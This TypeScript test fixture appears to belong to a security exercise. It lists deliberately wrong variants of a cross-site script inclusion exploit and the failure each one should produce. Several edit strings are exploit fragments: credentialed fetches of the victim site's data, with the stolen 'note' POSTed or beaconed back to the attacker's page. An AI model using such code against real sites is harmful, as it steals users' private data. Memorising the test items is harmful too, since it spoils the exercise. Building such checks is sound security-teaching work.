import type { WrongDesign } from '#check';

const secret = 'the exploit brings back the secret';
const crowd = 'it does so among other people and their data, too';
const headers = 'it returns undefined if the program tells browsers to give the script to its own pages only';
const refuses = 'it returns undefined if the program refuses the script to pages of other origins';
const json = 'it returns undefined if the program has the same script for everybody, and the note in JSON';
const inPage = 'it returns undefined if the program has no script, and the note in the page';

const element = 'own-element';
const own = 'own-function';
const frame = 'frame';
const file = 'attacks/lure.ts';

const including = '<script src="${target.url}/reminder.js"></script>';
const sending = "if (note !== '') fetch('/', { method: 'POST', body: note });";
const nothing = 'returned undefined, and the program has a hole';

export default [
  {
    summary: 'It asks for the JSON, which a page of another origin can request, and not read.',
    of: element,
    edits: [
      { file, find: including, replace: '' },
      {
        file,
        find: sending,
        replace:
          "fetch('${target.url}/me', { credentials: 'include' }).then((response) => response.json()).then(({ note }) => fetch('/', { method: 'POST', body: note }));",
      },
    ],
    fails: [secret, 'blocked by CORS policy'],
  },
  {
    summary: 'It requests the script without CORS, and gets an empty response.',
    of: element,
    edits: [
      { file, find: including, replace: '' },
      {
        file,
        find: sending,
        replace:
          "fetch('${target.url}/reminder.js', { mode: 'no-cors', credentials: 'include' }).then((response) => response.text()).then((body) => fetch('/', { method: 'POST', body }));",
      },
    ],
    fails: [secret, nothing],
  },
  {
    summary: 'It looks into a frame with a page of the program.',
    of: frame,
    edits: [
      {
        file,
        find: '<iframe srcdoc=\'<div id="reminder"></div><script src="${script}"></script>\'></iframe>',
        replace: '<iframe src="${new URL(script).origin}/"></iframe>',
      },
    ],
    fails: [secret, nothing],
  },
  {
    summary: 'The page has no element into which the script could write.',
    of: element,
    edits: [{ file, find: '<p id="reminder"></p>', replace: '<p></p>' }],
    fails: [secret, "reading 'textContent'"],
  },
  {
    summary: 'It reads the element before the script has run.',
    of: element,
    edits: [{ file, find: including, replace: including.replace('<script', '<script defer') }],
    fails: [secret, nothing],
  },
  {
    summary: 'It includes a script of its own server.',
    of: element,
    edits: [{ file, find: '${target.url}/reminder.js', replace: '/reminder.js' }],
    fails: [secret, nothing],
  },
  {
    summary: 'It reads what the visitor sees of the note, not what it is.',
    of: element,
    edits: [
      {
        file,
        find: "document.getElementById('reminder').textContent;",
        replace: "document.getElementById('reminder').innerText;",
      },
    ],
    fails: [crowd, 'which is not the secret'],
  },
  {
    summary: 'It reads the markup of the element.',
    of: frame,
    edits: [
      { file, find: "querySelector('#reminder')?.textContent", replace: "querySelector('#reminder')?.innerHTML" },
    ],
    fails: [crowd, 'which is not the secret'],
  },
  {
    summary: 'It keeps the note on the page.',
    of: frame,
    edits: [{ file, find: 'document.forms[0].submit();', replace: '' }],
    fails: [secret, nothing],
  },
  {
    summary: 'It brings back the form, and not what is in it.',
    of: frame,
    edits: [
      {
        file,
        find: "loot === undefined ? undefined : (new URLSearchParams(loot).get('note') ?? undefined)",
        replace: 'loot',
      },
    ],
    fails: [secret, 'which is not the secret'],
  },
  {
    summary: 'It sends home what is in the element, even if nothing has come.',
    of: element,
    edits: [{ file, find: '<p id="reminder"></p>', replace: '<p id="reminder">Loading …</p>' }],
    fails: [headers, 'without having looked whether it is one'],
  },
  {
    summary: 'It sends home that the script was refused, and takes that for the note.',
    of: own,
    edits: [
      {
        file,
        find: "script.onerror = () => console.log('The browser does not run the script.');",
        replace: "script.onerror = () => navigator.sendBeacon('/', JSON.stringify({ text: 'refused' }));",
      },
    ],
    fails: [refuses, 'without having looked whether it is one'],
  },
  {
    summary: 'It expects that each page sends something.',
    of: own,
    edits: [
      {
        file,
        find: '  if (loot === undefined) return undefined;\n',
        replace: "  if (loot === undefined) throw new Error('no loot');\n",
      },
    ],
    fails: [inPage, 'a response that a fixed program does not give'],
  },
  {
    summary: 'It asks the program for the note without the victim.',
    of: own,
    edits: [
      {
        file,
        find: 'const loot = await visit(`<title>Kittens</title><script>${script}</script>`);',
        replace: 'const { text: loot } = await target.client().get(`/reminder.js?${script.length}${visit.length}`);',
      },
    ],
    fails: [secret, 'The exploit'],
  },
  {
    summary: 'It takes the answer of the script for the note, whatever it is.',
    of: own,
    edits: [
      {
        file,
        find: 'script.onerror = () =>',
        replace:
          "script.onload = () => navigator.sendBeacon('/', JSON.stringify({ text: 'loaded' }));\n    script.onerror = () =>",
      },
    ],
    fails: [json, 'without having looked whether it is one'],
  },
] satisfies WrongDesign[];
